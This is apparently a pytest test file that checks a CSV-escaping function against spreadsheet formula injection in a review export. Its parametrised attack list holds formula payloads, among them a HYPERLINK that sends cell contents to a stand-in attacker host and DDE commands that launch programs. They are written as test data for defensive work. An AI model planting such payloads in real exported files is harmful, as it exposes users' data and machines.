"""CSV injection: review.csv cells never run as spreadsheet formulas (OWASP)."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given, strategies as st

from recbook.render.csv_safe import FORMULA_STARTS, csv_safe


@pytest.mark.parametrize("attack", [
    '=HYPERLINK("http://attacker.example/?"&A1,"Click")', "=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0",
    "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "＝1+1",
])
def test_formula_cells_get_a_leading_apostrophe(attack: str) -> None:
    assert csv_safe(attack) == "'" + attack


@pytest.mark.parametrize("text", ["Развивать эндаумент-фонды", "G1-01", "0.9731", "", "a=b", "'already"])
def test_ordinary_cells_are_unchanged(text: str) -> None:
    assert csv_safe(text) == text


@given(st.text())
def test_no_cell_starts_like_a_formula_and_the_text_survives(value: str) -> None:
    safe = csv_safe(value)
    assert not safe.startswith(FORMULA_STARTS)
    assert safe in (value, "'" + value)
    out = io.StringIO()
    csv.writer(out).writerow([safe])
    assert next(csv.reader(io.StringIO(out.getvalue(), newline=""))) == [safe]


def test_review_csv_neutralises_a_hostile_proposal_title() -> None:
    from test_merge_cli import _review_sample
    from recbook.render.review_csv import render_csv
    from dataclasses import replace

    result, proposals = _review_sample()
    proposals = {pid: replace(p, title='=HYPERLINK("http://x")') for pid, p in proposals.items()}
    rows = list(csv.reader(io.StringIO(render_csv(result, proposals).decode("utf-8-sig"), newline="")))
    cells = [cell for row in rows[1:] for cell in row]
    assert cells.count("'=HYPERLINK(\"http://x\")") >= 2  # a_title and b_title of each pair
    assert not any(cell.startswith(FORMULA_STARTS) for cell in cells)
